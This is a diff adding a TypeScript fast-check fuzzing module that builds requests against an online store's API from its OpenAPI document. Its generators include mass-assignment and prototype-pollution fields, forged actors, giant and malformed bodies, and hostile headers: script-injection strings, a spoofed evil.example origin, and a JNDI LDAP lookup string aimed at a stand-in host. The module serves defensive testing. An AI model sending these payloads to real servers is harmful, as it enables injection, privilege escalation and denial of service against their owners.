@@ -1,0 +1,204 @@
+import fc from 'fast-check'
+import { type Schema, hostile, nearly, valid } from './values.ts'
+
+export const actors = [
+  'nobody',
+  'buyer',
+  'unverified',
+  'completed',
+  'seller',
+  'admin',
+  /** With a cookie that nobody was given. */
+  'forger',
+] as const
+export type Actor = (typeof actors)[number]
+
+export type Encoding = 'json' | 'form' | 'multipart'
+
+/** One request as it is drawn; what it says of ids is filled in when it is sent. */
+export interface Drawn {
+  /** `POST store/add_item`, as in the document. */
+  call: string
+  actor: Actor
+  encoding: Encoding
+  fields: [name: string, value: unknown][]
+  headers: Record<string, string>
+  /** Instead of the call's own. */
+  method: string | null
+  /** Sent as it stands instead of the fields. */
+  body: string | null
+}
+
+export interface Operation {
+  call: string
+  method: 'GET' | 'POST'
+  path: string
+  input: Schema
+  /** Whom the document names as those it is for; all where it names nobody. */
+  isFor: readonly Actor[]
+}
+
+interface Described {
+  description: string
+  parameters?: { name: string; required: boolean; schema: Schema }[]
+  requestBody?: { content: Record<string, { schema: Schema }> }
+}
+
+export interface DocumentOfCalls {
+  paths: Record<string, Record<string, Described>>
+}
+
+/** What the OpenAPI document says can be asked. */
+export const operationsOf = ({ paths }: DocumentOfCalls): Operation[] =>
+  Object.entries(paths).flatMap(([path, methods]) =>
+    Object.entries(methods).map(([lower, { description, parameters = [], requestBody }]) => {
+      const named = /Only: (.*)\./.exec(description)?.[1]?.split(', ')
+      const method = lower === 'get' ? 'GET' : 'POST'
+      const input: Schema = requestBody
+        ? (Object.values(requestBody.content)[0]?.schema ?? {})
+        : {
+            properties: Object.fromEntries(parameters.map(({ name, schema }) => [name, schema])),
+            required: parameters.filter(({ required }) => required).map(({ name }) => name),
+          }
+      return {
+        call: `${method} ${path.replace('/api/', '')}`,
+        method,
+        path,
+        input,
+        isFor: actors.filter((actor) => named?.includes(actor) ?? true),
+      }
+    }),
+  )
+
+/** Fields that no call has, and that a careless server would write into a row. */
+const smuggled = [
+  'id',
+  'kind',
+  'role',
+  'user_type',
+  'verified',
+  'isAdmin',
+  'account_id',
+  'owner_id',
+  'buyer_id',
+  'balance',
+  'price_centavos',
+  'status',
+  'availability',
+  'password_hash',
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+]
+
+const fieldsOf = ({ properties = {}, required = [] }: Schema): fc.Arbitrary<[string, unknown][]> => {
+  const named = Object.entries(properties)
+  const good = named.map(([name, schema]) =>
+    fc
+      .tuple(fc.nat({ max: 9 }), valid(schema, name))
+      .map(([chance, value]): [string, unknown][] =>
+        required.includes(name) || chance < 5 ? [[name, value]] : [],
+      ),
+  )
+  const all = fc.tuple(...good).map((several) => several.flat())
+  if (named.length === 0) return fc.array(fc.tuple(fc.constantFrom(...smuggled), hostile), { maxLength: 2 })
+
+  // One field is off, so that the others get it past the first checks.
+  const off = fc.tuple(all, fc.nat({ max: named.length - 1 })).chain(([fields, n]) => {
+    const [name, schema] = named[n] ?? ['', {}]
+    return fc
+      .oneof({ weight: 2, arbitrary: hostile }, { weight: 1, arbitrary: nearly(schema, name) })
+      .map((value): [string, unknown][] => [...fields.filter(([other]) => other !== name), [name, value]])
+  })
+  const missing = fc
+    .tuple(all, fc.nat({ max: named.length }))
+    .map(([fields, n]) => fields.filter((_, place) => place !== n))
+  const more = fc
+    .tuple(all, fc.array(fc.tuple(fc.constantFrom(...smuggled), hostile), { minLength: 1, maxLength: 3 }))
+    .map(([fields, extra]): [string, unknown][] => [...fields, ...extra])
+  const wild = fc.tuple(...named.map(([name]) => fc.tuple(fc.constant(name), hostile)))
+  return fc.oneof(
+    { weight: 12, arbitrary: all },
+    { weight: 8, arbitrary: off },
+    { weight: 2, arbitrary: missing },
+    { weight: 3, arbitrary: more },
+    { weight: 2, arbitrary: wild as fc.Arbitrary<[string, unknown][]> },
+  )
+}
+
+const plainHeaders: Record<string, string> = {}
+const oddHeaders: Record<string, string>[] = [
+  { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' },
+  { origin: 'null' },
+  { 'x-request-id': 'x'.repeat(500) },
+  { 'x-request-id': '<script>alert(1)</script>' },
+  { 'x-forwarded-for': '127.0.0.1, 10.0.0.1, ::1', 'x-forwarded-host': 'evil.example' },
+  { 'x-http-method-override': 'DELETE' },
+  { 'accept-encoding': 'br;q=0.00001, *;q=x', accept: 'application/xml' },
+  { cookie: 'session=; session=a; session=%00; =; ;;' },
+  { cookie: `session=${'s'.repeat(4_000)}` },
+  { cookie: 'session=%E0%A4%A' },
+  { 'content-type': 'application/json; charset=utf-7' },
+  { 'content-type': 'text/xml' },
+  { 'content-type': 'multipart/form-data' },
+  { 'content-type': `multipart/form-data; boundary=${'b'.repeat(300)}` },
+  { 'content-type': 'application/x-www-form-urlencoded; charset=ibm500' },
+  { 'content-type': '' },
+  { range: 'bytes=0-,-1', 'if-none-match': '*', 'if-modified-since': 'yesterday' },
+  { 'last-event-id': '../../9999999999999999999999' },
+  { referer: 'javascript:alert(1)', 'user-agent': '\u00ff${jndi:ldap://evil.example}' },
+]
+
+const oddBodies = [
+  '',
+  '{',
+  'null',
+  '[]',
+  '"text"',
+  '1',
+  '{"a":1}{"b":2}',
+  '{"__proto__":{"a":1}}',
+  `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
+  `{${'"a":1,'.repeat(20_000)}"a":1}`,
+  `${'a[]='.repeat(3)}${'&a=1'.repeat(20_000)}`,
+  'x'.repeat(400_000),
+  '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1',
+  '--b\r\n'.repeat(5_000),
+  '\ufeff{}',
+]
+
+/** Requests of all kinds, each call as often as any other. */
+export const requestsOf = (operations: Operation[]): fc.Arbitrary<Drawn> =>
+  fc
+    .oneof(
+      ...operations.map((operation) =>
+        fc.record({ operation: fc.constant(operation), fields: fieldsOf(operation.input) }),
+      ),
+    )
+    .chain(({ operation: { call, isFor }, fields }) =>
+      fc.record({
+        call: fc.constant(call),
+        fields: fc.constant(fields),
+        actor: fc.oneof(
+          { weight: 4, arbitrary: fc.constantFrom(...isFor) },
+          { weight: 1, arbitrary: fc.constantFrom(...actors) },
+        ),
+        encoding: fc.constantFrom<Encoding>('json', 'json', 'form', 'multipart'),
+        headers: fc.oneof(
+          { weight: 9, arbitrary: fc.constant(plainHeaders) },
+          { weight: 1, arbitrary: fc.constantFrom(...oddHeaders) },
+        ),
+        method: fc.oneof(
+          { weight: 60, arbitrary: fc.constant(null) },
+          {
+            weight: 1,
+            arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'),
+          },
+        ),
+        body: fc.oneof(
+          { weight: 30, arbitrary: fc.constant(null) },
+          { weight: 1, arbitrary: fc.constantFrom(...oddBodies) },
+        ),
+      }),
+    )
